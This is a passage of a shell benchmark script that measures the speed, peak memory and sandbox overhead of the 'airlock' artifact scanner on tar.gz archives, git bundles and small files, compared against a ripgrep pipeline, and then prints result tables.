printf '%s\n' "$AL $T >/dev/null" >"$S/cmd-tairlock.sh"
printf '%s\n' "gzip -dc $T | $RG; [ \$? -le 1 ]" >"$S/cmd-tpeer.sh"
say "tar.gz: $TGZ_MB MB in $TGZ_MEMBERS members, timing ($RUNS rounds) ..."
rounds "$RUNS" tfloor tzlib tairlock tpeer

say "tar.gz: peak RSS (sampled) ..."
# Baseline: the same command on an empty file (rules, engine, one child).
rss_run "$S/empty.json" "$AIRLOCK" scan --rules "$RULES" --format json --fail-on never "$EMPTY"
E_RSS_TOTAL=$RSS_TOTAL E_RSS_PARENT=$RSS_PARENT E_RSS_CHILD=$RSS_CHILD
rss_run "$S/tgz.json" "$AIRLOCK" scan --rules "$RULES" --format json --fail-on never "$TGZ"
T_RSS_TOTAL=$RSS_TOTAL T_RSS_PARENT=$RSS_PARENT T_RSS_CHILD=$RSS_CHILD T_NCHILD=$NCHILD T_WALL=$WALL
T_FIND=$(findings "$S/tgz.json")
T_UNSCAN=$(unscannable "$S/tgz.json")
rss_run "$S/qtgz.json" "$AIRLOCK" scan --rules "$RULES" --format json --fail-on never "$QTGZ"
Q_RSS_TOTAL=$RSS_TOTAL Q_RSS_PARENT=$RSS_PARENT Q_RSS_CHILD=$RSS_CHILD Q_WALL=$WALL
Q_UNSCAN=$(unscannable "$S/qtgz.json")
if [ "$SHIPPED" = 1 ]; then
	say "tar.gz: one run with the shipped rules ..."
	rss_run "$S/tgz-shipped.json" "$AIRLOCK" scan --rules "$SHIPPED_RULES" --format json \
		--fail-on never "$TGZ"
	P_RSS_TOTAL=$RSS_TOTAL P_RSS_PARENT=$RSS_PARENT P_RSS_CHILD=$RSS_CHILD P_WALL=$WALL
	P_FIND=$(grep -c '"rule":' "$S/tgz-shipped.json" || true)
fi
peer_rss "$S/tgz-rg.txt" "$S/cmd-tpeer.sh"
T_PEER_RSS=$PEER_RSS
T_RG_LINES=$(rg_lines "$S/tgz-rg.txt")

# ======================================================== 2. git bundle ====

make_bundle
read -r B_COMMITS B_BLOBS B_BLOB_BYTES B_MSG_BYTES B_TREE_BYTES _ <"$BUNDLE.meta"
read -r QB_COMMITS _ QB_BLOB_BYTES QB_MSG_BYTES QB_TREE_BYTES _ <"$QBUNDLE.meta"
QB_INFLATED=$((QB_BLOB_BYTES + QB_MSG_BYTES + QB_TREE_BYTES))
B_SIZE=$(stat -c %s "$BUNDLE")
QB_SIZE=$(stat -c %s "$QBUNDLE")
B_BYTES=$((B_BLOB_BYTES + B_MSG_BYTES))
cat "$BUNDLE" "$QBUNDLE" >/dev/null
"$AIRLOCK" scan --rules "$RULES" --format json --fail-on never "$QBUNDLE" >"$S/q.json"

B=$(q "$BUNDLE")
P=$(q "$S/peer")
LABEL[bfloor]="floor: git clone --bare (no search)"
LABEL[bairlock]="airlock scan (one scan child)"
LABEL[bpeer]="peer: git clone + cat-file --batch | rg"
printf '%s\n' "git clone -q --bare $B $P/r.git" >"$S/cmd-bfloor.sh"
printf '%s\n' "$AL $B >/dev/null" >"$S/cmd-bairlock.sh"
printf '%s\n' "git clone -q --bare $B $P/r.git || exit 2
git -C $P/r.git cat-file --batch-all-objects --unordered --batch | $RG; [ \$? -le 1 ]" \
	>"$S/cmd-bpeer.sh"
say "git bundle: $B_COMMITS commits, timing ($RUNS rounds) ..."
rounds "$RUNS" bfloor bairlock bpeer

say "git bundle: peak RSS (sampled) ..."
rss_run "$S/bundle.json" "$AIRLOCK" scan --rules "$RULES" --format json --fail-on never "$BUNDLE"
B_RSS_TOTAL=$RSS_TOTAL B_RSS_PARENT=$RSS_PARENT B_RSS_CHILD=$RSS_CHILD B_WALL=$WALL
B_FIND=$(findings "$S/bundle.json")
B_UNSCAN=$(unscannable "$S/bundle.json")
rss_run "$S/qbundle.json" "$AIRLOCK" scan --rules "$RULES" --format json --fail-on never "$QBUNDLE"
QB_RSS_TOTAL=$RSS_TOTAL QB_RSS_PARENT=$RSS_PARENT QB_RSS_CHILD=$RSS_CHILD QB_WALL=$WALL
QB_UNSCAN=$(unscannable "$S/qbundle.json")
peer_rss "$S/bundle-rg.txt" "$S/cmd-bpeer.sh"
B_PEER_RSS=$PEER_RSS
B_RG_LINES=$(rg_lines "$S/bundle-rg.txt")

# =================================================== 3. small artifacts ====

say "small artifacts: $SMALL_N files of 1 KiB ..."
SMALL=$S/small
ONE=$S/one
mkdir -p "$SMALL" "$ONE"
python3 -c "$PY_COMMON
$PY_SMALL" "$POOL" "$SMALL_N" "$SMALL"
set -- "$SMALL"/f00000.*
cp "$1" "$ONE/"
ONEFILE=$ONE/${1##*/}
KDIR=$S/kids
mkdir -p "$KDIR"
n=0
for f in "$SMALL"/*; do
	[ "$n" -lt "$KIDS_N" ] || break
	cp "$f" "$KDIR/"
	n=$((n + 1))
done
cat "$SMALL"/* >/dev/null

SMALL_CMDS=()
for set in shipped bench; do
	if [ "$set" = shipped ]; then r=$SHIPPED_RULES; else r=$RULES; fi
	base="exec $(q "$AIRLOCK") scan --rules $(q "$r") --format json --fail-on never --threads 1"
	printf '%s\n' "$base $(q "$ONEFILE") >/dev/null" >"$S/cmd-one-$set-sbx.sh"
	printf '%s\n' "$base --no-sandbox $(q "$ONEFILE") >/dev/null 2>&1" >"$S/cmd-one-$set-nosbx.sh"
	printf '%s\n' "$base $(q "$SMALL") >/dev/null" >"$S/cmd-dir-$set-sbx.sh"
	printf '%s\n' "$base --no-sandbox $(q "$SMALL") >/dev/null 2>&1" >"$S/cmd-dir-$set-nosbx.sh"
	# KIDS_N files: --threads KIDS_N forks KIDS_N scan children, one after
	# the other, each waited for until it greets; --threads 1 forks one.
	printf '%s\n' "${base%--threads 1} --threads $KIDS_N $(q "$KDIR") >/dev/null" >"$S/cmd-kids-$set-many.sh"
	printf '%s\n' "$base $(q "$KDIR") >/dev/null" >"$S/cmd-kids-$set-one.sh"
	SMALL_CMDS+=("one-$set-sbx" "one-$set-nosbx" "dir-$set-sbx" "dir-$set-nosbx"
		"kids-$set-many" "kids-$set-one")
done
# The directory scan must see every file (sanity).
"$AIRLOCK" scan --rules "$SHIPPED_RULES" --format json --fail-on never --threads 1 "$SMALL" \
	>"$S/small.json"
SMALL_SEEN=$(awk -F: '/"files":/ { gsub(/[ ,]/, "", $2); print $2; exit }' "$S/small.json")
say "small artifacts: timing ($SPAWN_RUNS rounds) ..."
rounds "$SPAWN_RUNS" "${SMALL_CMDS[@]}"
BUSY_AFTER=$(busy)

ms() { awk -v s="$1" 'BEGIN { printf "%.2f", s * 1000 }'; }
# pdiff A B COLUMN: median over the rounds of (A - B) in ms. Each round ran A
# and B one after the other, so pairing them cancels load that comes and
# goes on the machine better than a difference of medians.
pdiff() {
	paste -d ' ' "$S/times-$1" "$S/times-$2" | awk -v c="$3" -v n=2 '
		{ print ($c - $(c + n)) * 1000 }' | sort -g | awk '
		{ t[NR] = $1 }
		END { m = (NR % 2) ? t[(NR + 1) / 2] : (t[NR / 2] + t[NR / 2 + 1]) / 2
		      printf "%.2f\n", m }'
}
# pquart A B COLUMN DIVISOR: the middle half of the rounds' (A - B) / DIVISOR
# in ms, "q1 q3" (how much the machine's noise leaves of the difference).
pquart() {
	paste -d ' ' "$S/times-$1" "$S/times-$2" | awk -v c="$3" -v n=2 '
		{ print ($c - $(c + n)) * 1000 }' | sort -g | awk -v d="$4" '
		{ t[NR] = $1 }
		END { printf "%.2f %.2f\n", t[int((NR + 3) / 4)] / d, t[int((3 * NR + 1) / 4)] / d }'
}
# verdict MEDIAN Q1 Q3: against SPAWN_TARGET_MS, saying when the noise
# straddles the target.
verdict() {
	local v
	if lt "$1" "$SPAWN_TARGET_MS"; then v=met; else v="NOT met"; fi
	if lt "$2" "$SPAWN_TARGET_MS" && ! lt "$3" "$SPAWN_TARGET_MS"; then
		v="$v (median; the middle half of the rounds, $2 to $3 ms, straddles $SPAWN_TARGET_MS ms)"
	fi
	echo "$v"
}
declare -A D_ONE D_ONE_CPU D_DIR D_DIR_CPU D_FILE D_MARG D_KID D_KID_CPU D_ONE_Q D_KID_Q
for set in shipped bench; do
	D_ONE[$set]=$(pdiff "one-$set-sbx" "one-$set-nosbx" 1)
	D_ONE_CPU[$set]=$(pdiff "one-$set-sbx" "one-$set-nosbx" 2)
	D_ONE_Q[$set]=$(pquart "one-$set-sbx" "one-$set-nosbx" 1 1)
	D_KID_Q[$set]=$(pquart "kids-$set-many" "kids-$set-one" 1 $((KIDS_N - 1)))
	D_DIR[$set]=$(pdiff "dir-$set-sbx" "dir-$set-nosbx" 1)
	D_DIR_CPU[$set]=$(pdiff "dir-$set-sbx" "dir-$set-nosbx" 2)
	D_FILE[$set]=$(awk -v d="${D_DIR[$set]}" -v n="$SMALL_N" 'BEGIN { printf "%.3f", d / n }')
	D_KID[$set]=$(awk -v d="$(pdiff "kids-$set-many" "kids-$set-one" 1)" -v n="$KIDS_N" \
		'BEGIN { printf "%.2f", d / (n - 1) }')
	D_KID_CPU[$set]=$(awk -v d="$(pdiff "kids-$set-many" "kids-$set-one" 2)" -v n="$KIDS_N" \
		'BEGIN { printf "%.2f", d / (n - 1) }')
	D_MARG[$set]=$(awk -v d="${D_DIR[$set]}" -v o="${D_ONE[$set]}" -v n="$SMALL_N" \
		'BEGIN { printf "%.3f", (d - o) / (n - 1) }')
done

# --------------------------------------------------------------- report ----

row() { # key bytes ref-key
	printf '| %-42s | %8.3f | %13s | %6s | %8s | %7.3f |\n' "${LABEL[$1]}" "${MED[$1]}" \
		"$(printf '%.3f-%.3f' "${MIN[$1]}" "${MAX[$1]}")" "$(mbs "$2" "${MED[$1]}")" \
		"$(speed "${MED[$1]}" "${MED[$3]}")" "${CPU[$1]}"
}
rss_row() { # label parent child total wall
	printf '| %-42s | %10s | %10s | %10s | %7s |\n' "$1" "$2" "$3" "$4" "$5"
}
header() { # first column title
	printf '| %-42s | %8s | %13s | %6s | %8s | %7s |\n' "$1" "median s" "min-max s" \
		"MB/s" "vs peer" "CPU s"
	printf '|%s|%s|%s|%s|%s|%s|\n' "$(printf -- '-%.0s' {1..44})" "---------:" \
		"--------------:" "-------:" "---------:" "--------:"
}
rss_header() {
	rss_row "$1" "parent MiB" "child MiB" "%M MiB" "wall s"
	printf '|%s|%s|%s|%s|%s|\n' "$(printf -- '-%.0s' {1..44})" "-----------:" \
		"-----------:" "-----------:" "--------:"
}

# Growth of the child's peak from the quarter-size archive to the full one:
# independent of the size when within 10% + 2 MiB.
T_FLAT=0
[ "$T_RSS_CHILD" -le $((Q_RSS_CHILD + Q_RSS_CHILD / 10 + 2048)) ] &&
	[ "$T_RSS_PARENT" -le $((Q_RSS_PARENT + Q_RSS_PARENT / 10 + 2048)) ] && T_FLAT=1
T_SPEED=$(speed "${MED[tairlock]}" "${MED[tpeer]}")
T_FLOOR=$(awk -v a="${MED[tairlock]}" -v f="${MED[tfloor]}" 'BEGIN { printf "%.2f", a / f }')
T_ZFLOOR=$(awk -v a="${MED[tairlock]}" -v f="${MED[tzlib]}" 'BEGIN { printf "%.2f", a / f }')
B_SPEED=$(speed "${MED[bairlock]}" "${MED[bpeer]}")
B_VS_GIT=$(speed "${MED[bairlock]}" "${MED[bfloor]}")
# Bytes of child peak per member more in the full archive than the quarter.
T_PER_MEMBER=$(awk -v a="$T_RSS_CHILD" -v b="$Q_RSS_CHILD" -v m="$TGZ_MEMBERS" -v n="$QTGZ_MEMBERS" \
	'BEGIN { printf "%.0f", (m > n) ? (a - b) * 1024 / (m - n) : 0 }')
# Child peak per MB inflated (blobs, messages, trees) between the bundles.
B_SLOPE=$(awk -v a="$B_RSS_CHILD" -v b="$QB_RSS_CHILD" \
	-v x="$((B_BYTES + B_TREE_BYTES))" -v y="$QB_INFLATED" \
	'BEGIN { printf "%.2f", (x > y) ? (a - b) / 1024 / ((x - y) / 1e6) : 0 }')
SAMPLER_OK=1
for pair in "$E_RSS_TOTAL $E_RSS_PARENT $E_RSS_CHILD" "$T_RSS_TOTAL $T_RSS_PARENT $T_RSS_CHILD" "$Q_RSS_TOTAL $Q_RSS_PARENT $Q_RSS_CHILD" \
	"$B_RSS_TOTAL $B_RSS_PARENT $B_RSS_CHILD" "$QB_RSS_TOTAL $QB_RSS_PARENT $QB_RSS_CHILD"; do
	read -r tot par chi <<<"$pair"
	big=$par
	[ "$chi" -le "$big" ] || big=$chi
	# %M runs about 1 MiB above the samples even on an empty file (the
	# kernel's RSS counters are per CPU, read approximately by /proc and
	# summed at exit); more than 2 MiB means a peak fell between samples.
	[ $((tot - big)) -le 2048 ] || SAMPLER_OK=0
done

{
	echo
	echo "airlock artifact benchmark - $(date -u '+%Y-%m-%d %H:%M UTC')$([ "$QUICK" = 1 ] && echo "  (BENCH_QUICK=1)")"
	echo "machine: $(nproc) CPUs, $(awk -F: '/model name/ { sub(/^ /, "", $2); print $2; exit }' /proc/cpuinfo), $(awk '/MemTotal/ { printf "%.0f GiB", $2 / 1048576 }' /proc/meminfo) RAM"
	echo "airlock: $("$AIRLOCK" version 2>/dev/null | sed -n 1p)   ripgrep: $RG_VERSION   $(git --version)   timing: $([ "$HAVE_HYPERFINE" = 1 ] && echo hyperfine || echo date), median of interleaved rounds"
	printf '%s\n' "rules: $RULES_NOTE, one airlock rule each; ripgrep gets the same set with \\b as (?-u:\\b)"
	echo "source text: $POOL_NOTE; warm page cache; MB = 10^6 bytes, MiB = 2^20 bytes"
	echo "machine busy before / after timing (other processes included): ${BUSY_BEFORE}% / ${BUSY_AFTER}%"
	echo
	echo "1. tar.gz: $(awk -v b="$TGZ_BYTES" 'BEGIN { printf "%.0f", b / 1e6 }') MB of source text in $TGZ_MEMBERS members," \
		"$(awk -v b="$TGZ_SIZE" 'BEGIN { printf "%.0f", b / 1e6 }') MB compressed ($GZIP_CMD), $RUNS rounds; MB/s of uncompressed content"
	echo
	header "run"
	row tfloor "$TGZ_BYTES" tpeer
	row tzlib "$TGZ_BYTES" tpeer
	row tairlock "$TGZ_BYTES" tpeer
	row tpeer "$TGZ_BYTES" tpeer
	echo "(vs peer: peer wall time / this wall time, > 1 is faster than the peer; CPU s: user + system)"
	echo
	echo "airlock / peer speed on the tar.gz: $T_SPEED  (target >= 1.00: $(met "$(ge "$T_SPEED" 1 && echo 1)"))"
	echo "airlock takes $T_ZFLOOR times as long as zlib decompression alone, $T_FLOOR times as long as gzip -dc"
	echo "findings: airlock $T_FIND (bench rules), ripgrep $T_RG_LINES matching lines;" \
		"$TGZ_PLANTED members carry planted secrets"
	[ "$T_UNSCAN" = 0 ] && [ "$Q_UNSCAN" = 0 ] ||
		echo "*** airlock reported the archive UNSCANNABLE ($T_UNSCAN / $Q_UNSCAN): figures are not comparable"
	echo
	rss_header "peak RSS (VmHWM sampled; %M: GNU time)"
	rss_row "airlock, empty file (baseline)" "$(mib "$E_RSS_PARENT")" "$(mib "$E_RSS_CHILD")" \
		"$(mib "$E_RSS_TOTAL")" "-"
	rss_row "airlock, $TGZ_MB MB tar.gz ($TGZ_MEMBERS members)" "$(mib "$T_RSS_PARENT")" "$(mib "$T_RSS_CHILD")" \
		"$(mib "$T_RSS_TOTAL")" "$T_WALL"
	rss_row "airlock, $QTGZ_MB MB tar.gz ($QTGZ_MEMBERS members)" "$(mib "$Q_RSS_PARENT")" "$(mib "$Q_RSS_CHILD")" \
		"$(mib "$Q_RSS_TOTAL")" "$Q_WALL"
	if [ "$SHIPPED" = 1 ]; then
		rss_row "airlock, $TGZ_MB MB, shipped rules ($NSHIPPED)" "$(mib "$P_RSS_PARENT")" \
			"$(mib "$P_RSS_CHILD")" "$(mib "$P_RSS_TOTAL")" "$P_WALL"
	fi
	rss_row "peer (largest process of the pipeline)" "-" "-" "$(mib "$T_PEER_RSS")" "-"
	echo "(parent, child: VmHWM of each process, sampled every $POLL s; %M: GNU time, the larger"
	echo " of the two as the kernel counts them at exit, about 1 MiB above the samples even on an"
	echo " empty file. Scan children seen: $T_NCHILD; wall: one sampled run, $(mbs "$TGZ_BYTES" "$T_WALL") MB/s$(
		[ "$SHIPPED" = 1 ] && echo "; shipped rules $(mbs "$TGZ_BYTES" "$P_WALL") MB/s, $P_FIND findings"))"
	echo
	echo "peak memory independent of archive size (quarter -> full: parent" \
		"$(mib "$Q_RSS_PARENT") -> $(mib "$T_RSS_PARENT") MiB, child $(mib "$Q_RSS_CHILD") ->" \
		"$(mib "$T_RSS_CHILD") MiB): $(met "$T_FLAT")"
	echo "(the child keeps each member's name for its duplicate and case-collision checks:"
	echo " $T_PER_MEMBER bytes of peak per member here, bounded by the 100,000-member limit)"
	echo "peak RSS < 64 MiB on the tar.gz: parent $(rss_met "$T_RSS_PARENT"), child $(rss_met "$T_RSS_CHILD")"
	echo
	echo "2. git bundle: $B_COMMITS commits, $B_BLOBS blobs, $(awk -v b="$B_SIZE" 'BEGIN { printf "%.1f", b / 1e6 }') MB bundle;" \
		"blobs + commit messages $(awk -v b="$B_BYTES" 'BEGIN { printf "%.0f", b / 1e6 }') MB inflated" \
		"(trees $(awk -v b="$B_TREE_BYTES" 'BEGIN { printf "%.0f", b / 1e6 }') MB), $RUNS rounds; MB/s of blobs + messages"
	echo
	header "run"
	row bfloor "$B_BYTES" bpeer
	row bairlock "$B_BYTES" bpeer
	row bpeer "$B_BYTES" bpeer
	echo
	echo "airlock / peer speed on the bundle: $B_SPEED  (target >= 1.00: $(met "$(ge "$B_SPEED" 1 && echo 1)"))"
	echo "airlock / git clone speed (pack reading alone): $B_VS_GIT"
	echo "findings: airlock $B_FIND (bench rules), ripgrep $B_RG_LINES matching lines (over every object once)"
	[ "$B_UNSCAN" = 0 ] && [ "$QB_UNSCAN" = 0 ] ||
		echo "*** airlock reported the bundle UNSCANNABLE ($B_UNSCAN / $QB_UNSCAN): see AL_BUNDLE_MAX_* in common/al_limits.h"
	echo
	rss_header "peak RSS (VmHWM sampled; %M: GNU time)"
	rss_row "airlock, $B_COMMITS commits ($(awk -v b="$B_SIZE" 'BEGIN { printf "%.1f", b / 1e6 }') MB)" \
		"$(mib "$B_RSS_PARENT")" "$(mib "$B_RSS_CHILD")" "$(mib "$B_RSS_TOTAL")" "$B_WALL"
	rss_row "airlock, $QB_COMMITS commits ($(awk -v b="$QB_SIZE" 'BEGIN { printf "%.1f", b / 1e6 }') MB)" \
		"$(mib "$QB_RSS_PARENT")" "$(mib "$QB_RSS_CHILD")" "$(mib "$QB_RSS_TOTAL")" "$QB_WALL"
	rss_row "peer (largest process)" "-" "-" "$(mib "$B_PEER_RSS")" "-"
	echo "(bundles are parsed whole in memory by design: the child's peak grows with the"
	echo " bundle, here by $B_SLOPE MiB per MB of inflated objects (trees included), up to"
	echo " AL_BUNDLE_MAX_BYTES 256 MiB of pack and AL_BUNDLE_MAX_INFLATED 512 MiB inflated)"
	echo
	echo "3. fork + sandbox cost per small artifact: 1 KiB source files, --threads 1, $SPAWN_RUNS rounds"
	echo
	printf '| %-42s | %9s | %9s | %9s | %9s | %12s |\n' "ms, medians (sandbox vs --no-sandbox)" "sandbox" \
		"in-proc" "diff" "CPU diff" "per artifact"
	printf '|%s|%s|%s|%s|%s|%s|\n' "$(printf -- '-%.0s' {1..44})" "----------:" "----------:" \
		"----------:" "----------:" "-------------:"
	for set in shipped bench; do
		if [ "$set" = shipped ]; then n="shipped rules ($NSHIPPED)"; else n="bench rules ($NRULES)"; fi
		printf '| %-42s | %9s | %9s | %9s | %9s | %12s |\n' "one file, $n" \
			"$(ms "${MED[one-$set-sbx]}")" "$(ms "${MED[one-$set-nosbx]}")" "${D_ONE[$set]}" \
			"${D_ONE_CPU[$set]}" "${D_ONE[$set]}"
		printf '| %-42s | %9s | %9s | %9s | %9s | %12s |\n' "$SMALL_N files in one dir, $n" \
			"$(ms "${MED[dir-$set-sbx]}")" "$(ms "${MED[dir-$set-nosbx]}")" "${D_DIR[$set]}" \
			"${D_DIR_CPU[$set]}" "${D_FILE[$set]}"
	done
	printf '| %-42s | %9s | %9s | %9s | %9s | %12s |\n' "ms, medians ($KIDS_N files: --threads $KIDS_N vs 1)" \
		"$KIDS_N kids" "1 kid" "diff" "CPU diff" "per child"
	for set in shipped bench; do
		if [ "$set" = shipped ]; then n="shipped rules ($NSHIPPED)"; else n="bench rules ($NRULES)"; fi
		printf '| %-42s | %9s | %9s | %9s | %9s | %12s |\n' "$KIDS_N scan children, $n" \
			"$(ms "${MED[kids-$set-many]}")" "$(ms "${MED[kids-$set-one]}")" \
			"$(pdiff "kids-$set-many" "kids-$set-one" 1)" "$(pdiff "kids-$set-many" "kids-$set-one" 2)" \
			"${D_KID[$set]}"
	done
	echo "(diff: median of the per-round differences, wall time; CPU diff: the same on user + system"
	echo " time, the child's included. One file: the difference is one scan child's fork, set-up,"
	echo " sandbox and exit, paid by every artifact scanned by its own airlock invocation."
	echo " Directory: difference / files; per file past the first (the child path alone: fd"
	echo " passing and frames): ${D_MARG[shipped]} ms (shipped), ${D_MARG[bench]} ms (bench); $SMALL_SEEN files scanned."
	echo " Per child: diff / $((KIDS_N - 1)), what one scan child costs in all (fork, its set-up:"
	echo " libmagic, libgit2 and libcrypto, the engine worker; sandbox; exit), which --no-sandbox"
	echo " pays too, once, in-process: the cost of each child the parent starts or restarts)"
	echo
	echo "fork + sandbox cost per small artifact (target < $SPAWN_TARGET_MS ms):"
	for set in shipped bench; do
		f=0
		lt "${D_FILE[$set]}" "$SPAWN_TARGET_MS" && f=1
		read -r q1 q3 <<<"${D_ONE_Q[$set]}"
		echo "  $set rules, one artifact per invocation, over --no-sandbox: ${D_ONE[$set]} ms: $(verdict "${D_ONE[$set]}" "$q1" "$q3")"
		read -r q1 q3 <<<"${D_KID_Q[$set]}"
		echo "  $set rules, a scan child in all: ${D_KID[$set]} ms (CPU ${D_KID_CPU[$set]} ms): $(verdict "${D_KID[$set]}" "$q1" "$q3")"
		echo "  $set rules, artifacts sharing a child: ${D_FILE[$set]} ms: $(met "$f")"
	done
	[ "$SAMPLER_OK" = 1 ] ||
		echo "note: GNU time's %M exceeds both sampled peaks by more than 2 MiB: a peak fell between samples (lower BENCH_RSS_POLL)"
} | tee -a "$RESULTS"
say "results appended to $RESULTS"
